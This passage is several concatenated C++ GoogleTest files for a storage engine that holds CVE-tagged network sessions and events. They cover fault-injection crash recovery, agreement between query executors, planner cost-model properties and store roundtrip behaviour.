    SCOPED_TRACE("storm seed " + std::to_string(seed));
    const fs::path dir = fresh_dir("storm-" + std::to_string(seed));
    chaos::FsFaultPlan plan;
    plan.seed = seed;
    plan.eio_read_rate = 0.15;
    plan.enospc_write_rate = 0.15;
    plan.torn_write_rate = 0.1;
    plan.rename_fail_rate = 0.15;
    chaos::FsShim shim(plan);
    StoreOptions options;
    options.fs = &shim;

    std::vector<bool> acked;
    {
      auto store = Store::open(dir, options);
      ASSERT_NE(store, nullptr);
      acked = run_sequence(*store);
    }
    StoreError error;
    auto reopened = Store::open(dir, {}, &error);
    ASSERT_NE(reopened, nullptr) << error.detail;
    EXPECT_EQ(store_fingerprint(*reopened), reference_fingerprint(acked));
    EXPECT_TRUE(reopened->verify(&error)) << error.detail;
  }
}

TEST(CrashMatrix, FaultStormOverTheTierChainSequence) {
  // The same lossy disk pointed at the checkpoint-segment-compaction
  // sequence: however many tiers survive, recovery yields exactly the
  // acknowledged commits.
  for (std::uint64_t seed = 21; seed <= 28; ++seed) {
    SCOPED_TRACE("tier storm seed " + std::to_string(seed));
    const fs::path dir = fresh_dir("tierstorm-" + std::to_string(seed));
    chaos::FsFaultPlan plan;
    plan.seed = seed;
    plan.eio_read_rate = 0.15;
    plan.enospc_write_rate = 0.15;
    plan.torn_write_rate = 0.1;
    plan.rename_fail_rate = 0.15;
    chaos::FsShim shim(plan);
    StoreOptions options;
    options.fs = &shim;

    std::vector<bool> acked;
    {
      auto store = Store::open(dir, options);
      ASSERT_NE(store, nullptr);
      acked = run_extended_sequence(*store);
    }
    StoreError error;
    auto reopened = Store::open(dir, {}, &error);
    ASSERT_NE(reopened, nullptr) << error.detail;
    EXPECT_EQ(store_fingerprint(*reopened), reference_fingerprint(acked));
    EXPECT_TRUE(reopened->verify(&error)) << error.detail;
  }
}

}  // namespace
}  // namespace cvewb::store
