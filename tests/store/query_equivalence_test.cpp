// The determinism contract of query.h, held by force: three executors --
// the store's index scan, the store's brute-force linear scan, and the
// store-independent brute_force_study() oracle -- must produce
// byte-identical results (digest, match count, and every materialized
// row) for every query, including randomized ones drawn from the actual
// corpus.
#include <gtest/gtest.h>

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "pipeline/study.h"
#include "store/query.h"
#include "store/store.h"
#include "store_support.h"
#include "util/rng.h"

namespace cvewb::store {
namespace {

using test_support::fresh_dir;
using test_support::shared_study;

constexpr std::uint64_t kSeeds[] = {11, 12, 13};

std::string run_key_of(std::uint64_t seed) { return "run-" + std::to_string(seed); }

/// One store for the whole binary: all three seeds ingested, with a
/// checkpoint between runs 12 and 13 so queries exercise the mixed
/// snapshot + WAL-delta read path, not just one of them.
const Store& equivalence_store() {
  static const std::unique_ptr<Store> store = [] {
    auto s = Store::open(fresh_dir("equivalence"));
    if (s == nullptr) return s;
    StoreError error;
    EXPECT_TRUE(s->ingest(shared_study(11), run_key_of(11), &error)) << error.detail;
    EXPECT_TRUE(s->ingest(shared_study(12), run_key_of(12), &error)) << error.detail;
    EXPECT_TRUE(s->checkpoint(&error)) << error.detail;
    EXPECT_TRUE(s->ingest(shared_study(13), run_key_of(13), &error)) << error.detail;
    return s;
  }();
  EXPECT_NE(store, nullptr);
  return *store;
}

std::string describe(const Query& q) {
  std::string out = q.table == Table::kSessions ? "sessions" : "events";
  if (q.cve) out += " cve=" + *q.cve;
  if (q.run) out += " run=" + *q.run;
  if (q.time_begin) out += " begin=" + std::to_string(*q.time_begin);
  if (q.time_end) out += " end=" + std::to_string(*q.time_end);
  if (q.src) out += " src=" + std::to_string(*q.src);
  if (q.sid) out += " sid=" + std::to_string(*q.sid);
  out += " limit=" + std::to_string(q.limit);
  return out;
}

/// Byte-identity between two executors' answers.  `scanned` is the one
/// field allowed to differ (it reports effort, not results).
void expect_identical(const QueryResult& a, const QueryResult& b, const Query& q,
                      const char* what) {
  SCOPED_TRACE(std::string(what) + ": " + describe(q));
  EXPECT_EQ(a.matched, b.matched);
  EXPECT_EQ(a.digest_hex, b.digest_hex);
  ASSERT_EQ(a.rows.size(), b.rows.size());
  for (std::size_t i = 0; i < a.rows.size(); ++i) {
    SCOPED_TRACE("row " + std::to_string(i));
    const MatchRow& x = a.rows[i];
    const MatchRow& y = b.rows[i];
    EXPECT_EQ(x.run_key, y.run_key);
    EXPECT_EQ(x.seq, y.seq);
    EXPECT_EQ(x.time, y.time);
    EXPECT_EQ(x.src, y.src);
    EXPECT_EQ(x.cve, y.cve);
    EXPECT_EQ(x.sid, y.sid);
    EXPECT_EQ(x.dst, y.dst);
    EXPECT_EQ(x.src_port, y.src_port);
    EXPECT_EQ(x.dst_port, y.dst_port);
    EXPECT_EQ(x.kind, y.kind);
    EXPECT_EQ(x.payload_bytes, y.payload_bytes);
  }
}

/// Anchor values for predicates come from a real row so randomized
/// queries actually hit data instead of matching nothing every time.
struct Anchor {
  std::int64_t time = 0;
  std::uint32_t src = 0;
  std::string cve;
  std::int32_t sid = 0;
};

Anchor draw_anchor(util::Rng& rng, const pipeline::StudyResult& study, Table table) {
  Anchor anchor;
  if (table == Table::kSessions && !study.traffic.sessions.empty()) {
    const std::size_t i = rng.uniform_u64(study.traffic.sessions.size());
    const auto& s = study.traffic.sessions[i];
    anchor.time = s.open_time.unix_seconds();
    anchor.src = s.src.value();
    if (i < study.traffic.tags.size()) {
      anchor.cve = study.traffic.tags[i].cve_id;
      anchor.sid = study.traffic.tags[i].sid;
    }
  } else if (table == Table::kEvents && !study.reconstruction.events.empty()) {
    const std::size_t i = rng.uniform_u64(study.reconstruction.events.size());
    const auto& e = study.reconstruction.events[i];
    anchor.time = e.time.unix_seconds();
    anchor.src = e.src;
    anchor.cve = e.cve_id;
    anchor.sid = e.sid;
  }
  return anchor;
}

Query random_query(util::Rng& rng, const pipeline::StudyResult& study) {
  Query q;
  q.table = rng.uniform() < 0.5 ? Table::kSessions : Table::kEvents;
  const Anchor anchor = draw_anchor(rng, study, q.table);
  if (rng.uniform() < 0.45) q.cve = anchor.cve;
  if (rng.uniform() < 0.35) q.src = anchor.src;
  if (rng.uniform() < 0.35) q.sid = anchor.sid;
  if (rng.uniform() < 0.5) {
    // Window around the anchor instant, up to two weeks wide; one side
    // is sometimes left open.
    const auto half = static_cast<std::int64_t>(rng.uniform_u64(86'400 * 14));
    if (rng.uniform() < 0.8) q.time_begin = anchor.time - half;
    if (rng.uniform() < 0.8) q.time_end = anchor.time + half + 1;
  }
  constexpr std::uint64_t kLimits[] = {0, 1, 7, 64, 1'000'000};
  q.limit = kLimits[rng.uniform_u64(5)];
  return q;
}

TEST(QueryEquivalence, RandomizedQueriesAgreeAcrossAllThreeExecutors) {
  const Store& store = equivalence_store();
  for (const std::uint64_t seed : kSeeds) {
    const pipeline::StudyResult& study = shared_study(seed);
    util::Rng rng(0xE9 + seed * 7919);
    std::uint64_t nonempty = 0;
    for (int iteration = 0; iteration < 30; ++iteration) {
      Query q = random_query(rng, study);
      q.run = run_key_of(seed);
      const QueryResult via_index = store.query(q, QueryMode::kIndex);
      const QueryResult via_brute = store.query(q, QueryMode::kBrute);
      const QueryResult oracle = brute_force_study(study, run_key_of(seed), q);
      expect_identical(via_index, via_brute, q, "index vs store-brute");
      expect_identical(via_index, oracle, q, "index vs study oracle");
      // The index path must never examine more rows than the full scan.
      EXPECT_LE(via_index.scanned, via_brute.scanned) << describe(q);
      if (via_index.matched > 0) ++nonempty;
    }
    // The anchor-drawn predicates must actually exercise matching rows;
    // thirty all-empty queries would mean the generator is broken.
    EXPECT_GT(nonempty, 0u) << "seed " << seed;
  }
}

TEST(QueryEquivalence, MultiRunQueriesAgreeAcrossBothStoreExecutors) {
  const Store& store = equivalence_store();
  util::Rng rng(0xA11);
  for (int iteration = 0; iteration < 40; ++iteration) {
    const std::uint64_t seed = kSeeds[rng.uniform_u64(3)];
    // No run predicate: matches span every ingested run; the oracle
    // cannot answer these, but index and brute must still agree.
    const Query q = random_query(rng, shared_study(seed));
    const QueryResult via_index = store.query(q, QueryMode::kIndex);
    const QueryResult via_brute = store.query(q, QueryMode::kBrute);
    expect_identical(via_index, via_brute, q, "index vs store-brute");
  }
}

TEST(QueryEquivalence, EdgeQueries) {
  const Store& store = equivalence_store();
  const pipeline::StudyResult& study = shared_study(11);

  // Empty half-open window: begin == end can match nothing.
  Query empty_window;
  empty_window.table = Table::kEvents;
  empty_window.time_begin = 0;
  empty_window.time_end = 0;
  for (const auto mode : {QueryMode::kIndex, QueryMode::kBrute}) {
    const QueryResult r = store.query(empty_window, mode);
    EXPECT_EQ(r.matched, 0u);
    EXPECT_TRUE(r.rows.empty());
  }
  expect_identical(store.query(empty_window), store.query(empty_window, QueryMode::kBrute),
                   empty_window, "empty window");

  // Unknown CVE and unknown run match nothing, identically.
  Query unknown_cve;
  unknown_cve.cve = "CVE-1999-0000";
  expect_identical(store.query(unknown_cve), store.query(unknown_cve, QueryMode::kBrute),
                   unknown_cve, "unknown cve");
  EXPECT_EQ(store.query(unknown_cve).matched, 0u);

  Query unknown_run;
  unknown_run.run = "run-99";
  expect_identical(store.query(unknown_run), store.query(unknown_run, QueryMode::kBrute),
                   unknown_run, "unknown run");
  EXPECT_EQ(store.query(unknown_run).matched, 0u);
  expect_identical(store.query(unknown_run, QueryMode::kBrute),
                   brute_force_study(study, run_key_of(11), unknown_run), unknown_run,
                   "unknown run vs oracle");

  // limit=0 materializes nothing but the digest still covers the full
  // match set; limit > matched materializes everything.
  Query log4shell;
  log4shell.table = Table::kEvents;
  log4shell.run = run_key_of(11);
  if (!study.reconstruction.events.empty()) {
    log4shell.cve = study.reconstruction.events.front().cve_id;
  }
  Query capped = log4shell;
  capped.limit = 0;
  Query uncapped = log4shell;
  uncapped.limit = 1'000'000'000;
  const QueryResult with_cap = store.query(capped);
  const QueryResult without_cap = store.query(uncapped);
  EXPECT_TRUE(with_cap.rows.empty());
  EXPECT_EQ(with_cap.matched, without_cap.matched);
  EXPECT_EQ(with_cap.digest_hex, without_cap.digest_hex);
  EXPECT_EQ(without_cap.rows.size(), without_cap.matched);
  expect_identical(with_cap, brute_force_study(study, run_key_of(11), capped), capped,
                   "limit 0 vs oracle");
}

/// Compound queries: 2-4 predicates anchored on a real row, so the
/// index-intersection path (not just single-index scans) answers them.
Query random_compound_query(util::Rng& rng, const pipeline::StudyResult& study,
                            std::uint64_t seed) {
  Query q;
  q.table = rng.uniform() < 0.5 ? Table::kSessions : Table::kEvents;
  const Anchor anchor = draw_anchor(rng, study, q.table);
  // Draw predicate subsets until at least two apply.
  std::size_t applied = 0;
  while (applied < 2) {
    q.cve.reset();
    q.run.reset();
    q.src.reset();
    q.sid.reset();
    q.time_begin.reset();
    q.time_end.reset();
    applied = 0;
    if (rng.uniform() < 0.6) {
      q.cve = anchor.cve;
      ++applied;
    }
    if (rng.uniform() < 0.5) {
      q.run = run_key_of(seed);
      ++applied;
    }
    if (rng.uniform() < 0.5) {
      q.src = anchor.src;
      ++applied;
    }
    if (rng.uniform() < 0.5) {
      q.sid = anchor.sid;
      ++applied;
    }
    if (rng.uniform() < 0.5) {
      const auto half = static_cast<std::int64_t>(rng.uniform_u64(86'400 * 3));
      q.time_begin = anchor.time - half;
      q.time_end = anchor.time + half + 1;
      ++applied;
    }
  }
  // A contradictory twist on ~1 in 5 queries: the predicates are each
  // individually satisfiable but jointly (or trivially) match nothing.
  const double twist = rng.uniform();
  if (twist < 0.1) {
    q.time_begin = anchor.time + 1000;
    q.time_end = anchor.time + 999;  // begin > end: empty by contract
  } else if (twist < 0.2) {
    q.time_begin = anchor.time;
    q.time_end = anchor.time;  // begin == end: empty half-open window
  }
  constexpr std::uint64_t kLimits[] = {0, 1, 7, 64, 1'000'000};
  q.limit = kLimits[rng.uniform_u64(5)];
  return q;
}

TEST(QueryEquivalence, CompoundPredicateQueriesAgreeAcrossAllThreeExecutors) {
  const Store& store = equivalence_store();
  for (const std::uint64_t seed : kSeeds) {
    const pipeline::StudyResult& study = shared_study(seed);
    util::Rng rng(0xC0 + seed * 104'729);
    std::uint64_t nonempty = 0;
    std::uint64_t intersected = 0;
    for (int iteration = 0; iteration < 40; ++iteration) {
      Query q = random_compound_query(rng, study, seed);
      const bool per_run = q.run.has_value();
      const QueryResult via_index = store.query(q, QueryMode::kIndex);
      const QueryResult via_brute = store.query(q, QueryMode::kBrute);
      expect_identical(via_index, via_brute, q, "compound index vs store-brute");
      if (per_run) {
        const QueryResult oracle = brute_force_study(study, run_key_of(seed), q);
        expect_identical(via_index, oracle, q, "compound index vs study oracle");
      }
      EXPECT_LE(via_index.scanned, via_brute.scanned) << describe(q);
      // The executed plan string must match what the planner reports for
      // the same query, and brute mode must always say "brute".
      EXPECT_EQ(via_index.plan, store.plan(q).plan) << describe(q);
      EXPECT_EQ(via_brute.plan, "brute") << describe(q);
      if (via_index.matched > 0) ++nonempty;
      if (via_index.plan.rfind("intersect(", 0) == 0) ++intersected;
    }
    EXPECT_GT(nonempty, 0u) << "seed " << seed;
    // Compound anchored predicates must exercise the k-way intersection
    // path, not collapse to single-index scans every time.
    EXPECT_GT(intersected, 0u) << "seed " << seed;
  }
}

TEST(QueryEquivalence, DegenerateTimeWindowsMatchNothingInAllExecutors) {
  const Store& store = equivalence_store();
  const pipeline::StudyResult& study = shared_study(11);
  ASSERT_FALSE(study.reconstruction.events.empty());
  const auto& e = study.reconstruction.events.front();

  // Anchored at a real event's instant, so a half-open [t, t+1) window
  // does match -- proving the zero matches below come from the window
  // semantics, not from missing data.
  Query hit;
  hit.table = Table::kEvents;
  hit.run = run_key_of(11);
  hit.cve = e.cve_id;
  hit.time_begin = e.time.unix_seconds();
  hit.time_end = e.time.unix_seconds() + 1;
  EXPECT_GT(store.query(hit).matched, 0u);

  for (const std::int64_t end_delta : {0, -1, -86'400}) {
    Query q = hit;
    q.time_end = e.time.unix_seconds() + end_delta;
    SCOPED_TRACE(describe(q));
    const QueryResult via_index = store.query(q, QueryMode::kIndex);
    const QueryResult via_brute = store.query(q, QueryMode::kBrute);
    const QueryResult oracle = brute_force_study(study, run_key_of(11), q);
    EXPECT_EQ(via_index.matched, 0u);
    EXPECT_TRUE(via_index.rows.empty());
    expect_identical(via_index, via_brute, q, "degenerate window index vs brute");
    expect_identical(via_index, oracle, q, "degenerate window index vs oracle");
    // The planner proves the window empty without touching any postings.
    EXPECT_EQ(store.plan(q).plan, "empty");
    EXPECT_EQ(via_index.postings_examined, 0u);
  }
}

TEST(QueryEquivalence, IndexModeWithoutPredicateFallsBackToBrute) {
  const Store& store = equivalence_store();
  Query all;
  all.limit = 0;
  const QueryResult r = store.query(all, QueryMode::kIndex);
  EXPECT_FALSE(r.used_index);
  EXPECT_EQ(r.scanned, store.stats().session_rows);

  Query by_cve;
  by_cve.cve = "CVE-2021-44228";
  EXPECT_TRUE(store.query(by_cve, QueryMode::kIndex).used_index);
  EXPECT_FALSE(store.query(by_cve, QueryMode::kBrute).used_index);
}

}  // namespace
}  // namespace cvewb::store
