// Property tests for the selectivity-estimating planner (store/plan.h).
// choose_plan is a pure function of (estimates, table_rows), so these
// tests hold it to the documented cost model directly -- no store, no
// I/O -- including a randomized sweep that recomputes the model from
// scratch and checks the planner never picks a dominated shape.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <string>
#include <vector>

#include "store/plan.h"
#include "util/rng.h"

namespace cvewb::store {
namespace {

using Choice = QueryPlan::Choice;

IndexEstimate est(PlanIndex index, std::uint64_t cardinality) {
  IndexEstimate e;
  e.index = index;
  e.cardinality = cardinality;
  return e;
}

double shape_cost(const std::vector<IndexEstimate>& drivers, std::uint64_t table_rows) {
  double postings = 0;
  double expected = 0;
  for (std::size_t i = 0; i < drivers.size(); ++i) {
    const double ci = static_cast<double>(drivers[i].cardinality);
    postings += ci;
    expected = i == 0 ? ci : expected * (ci / static_cast<double>(table_rows));
  }
  return postings * kPlanPostingCost + expected * kPlanCheckCost;
}

TEST(Planner, NoApplicablePredicateIsBrute) {
  const QueryPlan plan = choose_plan({}, 5000);
  EXPECT_EQ(plan.choice, Choice::kBrute);
  EXPECT_TRUE(plan.drivers.empty());
  EXPECT_EQ(plan.estimated_candidates, 5000u);
  EXPECT_EQ(plan.label(), "brute");
}

TEST(Planner, AnyZeroCardinalityProbeShortCircuitsToEmpty) {
  // Even a probe that would otherwise be a perfect driver cannot save a
  // query with one provably unsatisfiable predicate.
  const QueryPlan plan =
      choose_plan({est(PlanIndex::kCve, 3), est(PlanIndex::kSid, 0), est(PlanIndex::kTime, 9)},
                  10'000);
  EXPECT_EQ(plan.choice, Choice::kEmpty);
  EXPECT_TRUE(plan.drivers.empty());
  EXPECT_EQ(plan.postings_examined, 0u);
  EXPECT_EQ(plan.estimated_candidates, 0u);
  EXPECT_EQ(plan.label(), "empty");
}

TEST(Planner, SingleSelectiveProbeDrivesASingleIndexScan) {
  const QueryPlan plan = choose_plan({est(PlanIndex::kSrc, 12)}, 100'000);
  EXPECT_EQ(plan.choice, Choice::kSingleIndex);
  ASSERT_EQ(plan.drivers.size(), 1u);
  EXPECT_EQ(plan.drivers[0].index, PlanIndex::kSrc);
  EXPECT_EQ(plan.postings_examined, 12u);
  EXPECT_EQ(plan.estimated_candidates, 12u);
  EXPECT_EQ(plan.label(), "single(src)");
}

TEST(Planner, TwoSelectiveProbesIntersectMostSelectiveFirst) {
  // Admitting the second probe is worth it iff merging its postings is
  // cheaper than re-checking the candidates it eliminates: c2 must stay
  // under ~kPlanCheckCost * c1.  3000 < 4 * 1000, so it is admitted.
  const QueryPlan plan =
      choose_plan({est(PlanIndex::kCve, 3000), est(PlanIndex::kSid, 1000)}, 1'000'000);
  EXPECT_EQ(plan.choice, Choice::kIntersect);
  ASSERT_EQ(plan.drivers.size(), 2u);
  EXPECT_EQ(plan.drivers[0].index, PlanIndex::kSid);  // 1000 < 3000
  EXPECT_EQ(plan.drivers[1].index, PlanIndex::kCve);
  EXPECT_EQ(plan.postings_examined, 4000u);
  EXPECT_EQ(plan.label(), "intersect(sid,cve)");
}

TEST(Planner, UnselectiveSecondProbeIsNotAdmitted) {
  // The second probe covers nearly the whole table: merging its postings
  // costs more than re-checking the few candidates it would eliminate.
  const QueryPlan plan =
      choose_plan({est(PlanIndex::kCve, 10), est(PlanIndex::kTime, 99'000)}, 100'000);
  EXPECT_EQ(plan.choice, Choice::kSingleIndex);
  ASSERT_EQ(plan.drivers.size(), 1u);
  EXPECT_EQ(plan.drivers[0].index, PlanIndex::kCve);
}

TEST(Planner, CostTieAtTheBruteBoundaryPrefersTheIndex) {
  // Single-probe cost is (kPlanPostingCost + kPlanCheckCost) * c = 5c and
  // brute cost is kPlanCheckCost * n = 4n, so c = 4n/5 is the exact tie.
  const std::uint64_t n = 1000;
  EXPECT_EQ(choose_plan({est(PlanIndex::kTime, 800)}, n).choice, Choice::kSingleIndex);
  EXPECT_EQ(choose_plan({est(PlanIndex::kTime, 801)}, n).choice, Choice::kBrute);
  // A probe over the whole table (or more: multi-tier postings can exceed
  // the row count) is always dominated by the straight scan.
  const QueryPlan plan = choose_plan({est(PlanIndex::kTime, 3 * n)}, n);
  EXPECT_EQ(plan.choice, Choice::kBrute);
  EXPECT_EQ(plan.estimated_candidates, n);
}

TEST(Planner, DeterministicAcrossInputOrderings) {
  std::vector<IndexEstimate> estimates = {est(PlanIndex::kCve, 70), est(PlanIndex::kRun, 500),
                                          est(PlanIndex::kTime, 65), est(PlanIndex::kSid, 70)};
  const QueryPlan reference = choose_plan(estimates, 10'000);
  std::sort(estimates.begin(), estimates.end(),
            [](const IndexEstimate& a, const IndexEstimate& b) {
              return static_cast<int>(a.index) < static_cast<int>(b.index);
            });
  do {
    const QueryPlan plan = choose_plan(estimates, 10'000);
    EXPECT_EQ(plan.choice, reference.choice);
    EXPECT_EQ(plan.label(), reference.label());
    EXPECT_EQ(plan.postings_examined, reference.postings_examined);
    EXPECT_EQ(plan.estimated_candidates, reference.estimated_candidates);
  } while (std::next_permutation(estimates.begin(), estimates.end(),
                                 [](const IndexEstimate& a, const IndexEstimate& b) {
                                   return static_cast<int>(a.index) < static_cast<int>(b.index);
                                 }));
  // Equal cardinalities (cve=70, sid=70) break ties by canonical index
  // order, so cve must sort ahead of sid wherever both are drivers.
  for (std::size_t i = 0; i + 1 < reference.drivers.size(); ++i) {
    const auto& a = reference.drivers[i];
    const auto& b = reference.drivers[i + 1];
    EXPECT_TRUE(a.cardinality < b.cardinality ||
                (a.cardinality == b.cardinality &&
                 static_cast<int>(a.index) < static_cast<int>(b.index)));
  }
}

TEST(Planner, RandomizedPlansAreNeverDominated) {
  util::Rng rng(0x9A71);
  constexpr PlanIndex kAll[] = {PlanIndex::kCve, PlanIndex::kRun, PlanIndex::kTime,
                                PlanIndex::kSrc, PlanIndex::kSid};
  for (int iteration = 0; iteration < 2000; ++iteration) {
    const std::uint64_t n = 1 + rng.uniform_u64(1'000'000);
    std::vector<IndexEstimate> estimates;
    const std::size_t count = 1 + rng.uniform_u64(5);
    for (std::size_t i = 0; i < count; ++i) {
      // Skewed cardinalities: mostly selective, sometimes table-sized+.
      std::uint64_t c = rng.uniform_u64(n + 1);
      if (rng.uniform() < 0.3) c = rng.uniform_u64(32);
      if (rng.uniform() < 0.1) c = n + rng.uniform_u64(n + 1);
      estimates.push_back(est(kAll[i], c));
    }
    const QueryPlan plan = choose_plan(estimates, n);

    const bool any_zero = std::any_of(estimates.begin(), estimates.end(),
                                      [](const IndexEstimate& e) { return e.cardinality == 0; });
    if (any_zero) {
      EXPECT_EQ(plan.choice, Choice::kEmpty);
      continue;
    }
    const double cost_brute = static_cast<double>(n) * kPlanCheckCost;
    switch (plan.choice) {
      case Choice::kEmpty:
        ADD_FAILURE() << "empty plan without a zero-cardinality probe";
        break;
      case Choice::kBrute: {
        // Brute is only legal when every single-index alternative is
        // strictly costlier (the tie rule prefers the index).
        for (const IndexEstimate& e : estimates) {
          EXPECT_GT(shape_cost({e}, n), cost_brute)
              << "brute chosen though single(" << plan_index_name(e.index) << ") is no worse";
        }
        break;
      }
      case Choice::kSingleIndex:
      case Choice::kIntersect: {
        ASSERT_GE(plan.drivers.size(), plan.choice == Choice::kIntersect ? 2u : 1u);
        // The chosen shape must beat brute and any prefix of itself.
        const double cost = shape_cost(plan.drivers, n);
        EXPECT_LE(cost, cost_brute);
        // Drivers are estimates, most selective first, no duplicates.
        std::uint64_t postings = 0;
        for (std::size_t i = 0; i < plan.drivers.size(); ++i) {
          postings += plan.drivers[i].cardinality;
          if (i > 0) {
            EXPECT_GE(plan.drivers[i].cardinality, plan.drivers[i - 1].cardinality);
          }
          const auto same = [&](const IndexEstimate& e) {
            return e.index == plan.drivers[i].index &&
                   e.cardinality == plan.drivers[i].cardinality;
          };
          EXPECT_TRUE(std::any_of(estimates.begin(), estimates.end(), same));
        }
        EXPECT_EQ(plan.postings_examined, postings);
        // The driver set is greedily optimal: dropping the last admitted
        // driver can never be cheaper (it was admitted on cost).
        if (plan.drivers.size() >= 2) {
          std::vector<IndexEstimate> prefix(plan.drivers.begin(), plan.drivers.end() - 1);
          EXPECT_LT(cost, shape_cost(prefix, n));
        }
        break;
      }
    }
  }
}

TEST(Planner, LabelsAreCanonical) {
  EXPECT_EQ(choose_plan({}, 10).label(), "brute");
  EXPECT_EQ(choose_plan({est(PlanIndex::kRun, 0)}, 10).label(), "empty");
  EXPECT_EQ(choose_plan({est(PlanIndex::kTime, 1)}, 1000).label(), "single(time)");
  EXPECT_EQ(choose_plan({est(PlanIndex::kSid, 5), est(PlanIndex::kSrc, 4)}, 100'000).label(),
            "intersect(src,sid)");
  EXPECT_EQ(std::string(plan_index_name(PlanIndex::kCve)), "cve");
  EXPECT_EQ(std::string(plan_index_name(PlanIndex::kRun)), "run");
}

}  // namespace
}  // namespace cvewb::store
