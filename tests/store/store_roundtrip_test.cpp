// Store lifecycle basics: ingest, reopen, idempotency, checkpoint
// folding, and the deep verify pass -- the plumbing the crash matrix and
// equivalence suites build on.
#include "store/store.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <string>
#include <utility>
#include <vector>

#include "pipeline/study.h"
#include "store/format.h"
#include "store_support.h"

namespace cvewb::store {
namespace {

namespace fs = std::filesystem;
using test_support::fresh_dir;
using test_support::shared_study;
using test_support::store_fingerprint;

TEST(StoreRoundtrip, EmptyStoreOpensAndAnswers) {
  const fs::path dir = fresh_dir("empty");
  StoreError error;
  auto store = Store::open(dir, {}, &error);
  ASSERT_NE(store, nullptr) << error.detail;
  EXPECT_EQ(store->stats().session_rows, 0u);
  EXPECT_EQ(store->stats().runs, 0u);
  Query all;
  const QueryResult result = store->query(all);
  EXPECT_EQ(result.matched, 0u);
  EXPECT_TRUE(store->verify(&error)) << error.detail;
}

TEST(StoreRoundtrip, IngestReopenPreservesEveryRow) {
  const fs::path dir = fresh_dir("roundtrip");
  const pipeline::StudyResult& study = shared_study(11);
  std::string fingerprint;
  {
    auto store = Store::open(dir);
    ASSERT_NE(store, nullptr);
    StoreError error;
    ASSERT_TRUE(store->ingest(study, "run-11", &error)) << error.detail;
    EXPECT_EQ(store->stats().session_rows, study.traffic.sessions.size());
    EXPECT_EQ(store->stats().event_rows, study.reconstruction.events.size());
    EXPECT_EQ(store->stats().runs, 1u);
    EXPECT_EQ(store->stats().wal_segments, 1u);
    EXPECT_TRUE(store->contains_run("run-11"));
    EXPECT_FALSE(store->contains_run("run-99"));
    EXPECT_TRUE(store->verify(&error)) << error.detail;
    fingerprint = store_fingerprint(*store);
  }
  // Reopen: WAL replay must recover the identical logical state.
  auto reopened = Store::open(dir);
  ASSERT_NE(reopened, nullptr);
  EXPECT_EQ(store_fingerprint(*reopened), fingerprint);
  StoreError error;
  EXPECT_TRUE(reopened->verify(&error)) << error.detail;
}

TEST(StoreRoundtrip, ReingestIsIdempotent) {
  const fs::path dir = fresh_dir("idempotent");
  auto store = Store::open(dir);
  ASSERT_NE(store, nullptr);
  ASSERT_TRUE(store->ingest(shared_study(11), "run-11"));
  const std::string fingerprint = store_fingerprint(*store);
  const std::uint64_t lsn = store->stats().last_lsn;
  // Same run key again: no-op success, nothing changes.
  EXPECT_TRUE(store->ingest(shared_study(11), "run-11"));
  EXPECT_EQ(store->stats().last_lsn, lsn);
  EXPECT_EQ(store_fingerprint(*store), fingerprint);
}

TEST(StoreRoundtrip, CheckpointFoldsWalAndPreservesState) {
  const fs::path dir = fresh_dir("checkpoint");
  std::string fingerprint;
  {
    auto store = Store::open(dir);
    ASSERT_NE(store, nullptr);
    ASSERT_TRUE(store->ingest(shared_study(11), "run-11"));
    ASSERT_TRUE(store->ingest(shared_study(12), "run-12"));
    fingerprint = store_fingerprint(*store);
    StoreError error;
    ASSERT_TRUE(store->checkpoint(&error)) << error.detail;
    EXPECT_EQ(store->stats().wal_segments, 0u);
    EXPECT_EQ(store->stats().snapshot_lsn, store->stats().last_lsn);
    EXPECT_GT(store->stats().snapshot_bytes, 0u);
    EXPECT_EQ(store_fingerprint(*store), fingerprint);
    EXPECT_TRUE(store->verify(&error)) << error.detail;
    // Checkpoint with nothing new to fold is a no-op success.
    EXPECT_TRUE(store->checkpoint(&error));
  }
  // No live WAL left on disk (each folded segment was retired to an
  // arc- archive); exactly one snapshot; reopen serves it (mmap'd).
  std::size_t wal_files = 0;
  std::size_t snapshots = 0;
  std::size_t archives = 0;
  for (const auto& entry : fs::directory_iterator(dir)) {
    const std::string name = entry.path().filename().string();
    std::uint64_t lsn = 0;
    if (parse_store_file_name(name, "wal-", ".cvwbw", lsn)) ++wal_files;
    if (parse_store_file_name(name, "snap-", ".cvwbs", lsn)) ++snapshots;
    if (parse_store_file_name(name, "arc-", ".cvwba", lsn)) ++archives;
  }
  EXPECT_EQ(wal_files, 0u);
  EXPECT_EQ(snapshots, 1u);
  EXPECT_EQ(archives, 2u);  // one per folded ingest
  auto reopened = Store::open(dir);
  ASSERT_NE(reopened, nullptr);
  EXPECT_EQ(store_fingerprint(*reopened), fingerprint);
  EXPECT_TRUE(reopened->stats().snapshot_mapped);
  // Delta on top of a snapshot: ingest more, reopen again.
  ASSERT_TRUE(reopened->ingest(shared_study(13), "run-13"));
  const std::string grown = store_fingerprint(*reopened);
  auto reopened_again = Store::open(dir);
  ASSERT_NE(reopened_again, nullptr);
  EXPECT_EQ(store_fingerprint(*reopened_again), grown);
  StoreError error;
  EXPECT_TRUE(reopened_again->verify(&error)) << error.detail;
}

TEST(StoreRoundtrip, IncrementalCheckpointsGrowASegmentChainAndCompactionMergesIt) {
  const fs::path dir = fresh_dir("tierchain");
  std::string fingerprint;
  {
    auto store = Store::open(dir);
    ASSERT_NE(store, nullptr);
    StoreError error;
    // Three checkpoint rounds: full snapshot, then two range segments.
    ASSERT_TRUE(store->ingest(shared_study(11), "run-11"));
    ASSERT_TRUE(store->checkpoint(&error)) << error.detail;
    ASSERT_TRUE(store->ingest(shared_study(12), "run-12"));
    ASSERT_TRUE(store->checkpoint(&error)) << error.detail;
    ASSERT_TRUE(store->ingest(shared_study(13), "run-13"));
    ASSERT_TRUE(store->checkpoint(&error)) << error.detail;
    fingerprint = store_fingerprint(*store);
    EXPECT_EQ(store->stats().base_segments, 3u);
    EXPECT_EQ(store->stats().wal_segments, 0u);
    EXPECT_EQ(store->stats().snapshot_lsn, store->stats().last_lsn);
    EXPECT_TRUE(store->verify(&error)) << error.detail;
  }
  // On disk: one snapshot, two segments named by their lsn ranges.
  std::size_t snapshots = 0;
  std::vector<std::pair<std::uint64_t, std::uint64_t>> ranges;
  for (const auto& entry : fs::directory_iterator(dir)) {
    const std::string name = entry.path().filename().string();
    std::uint64_t lsn = 0, from = 0, to = 0;
    if (parse_store_file_name(name, "snap-", ".cvwbs", lsn)) ++snapshots;
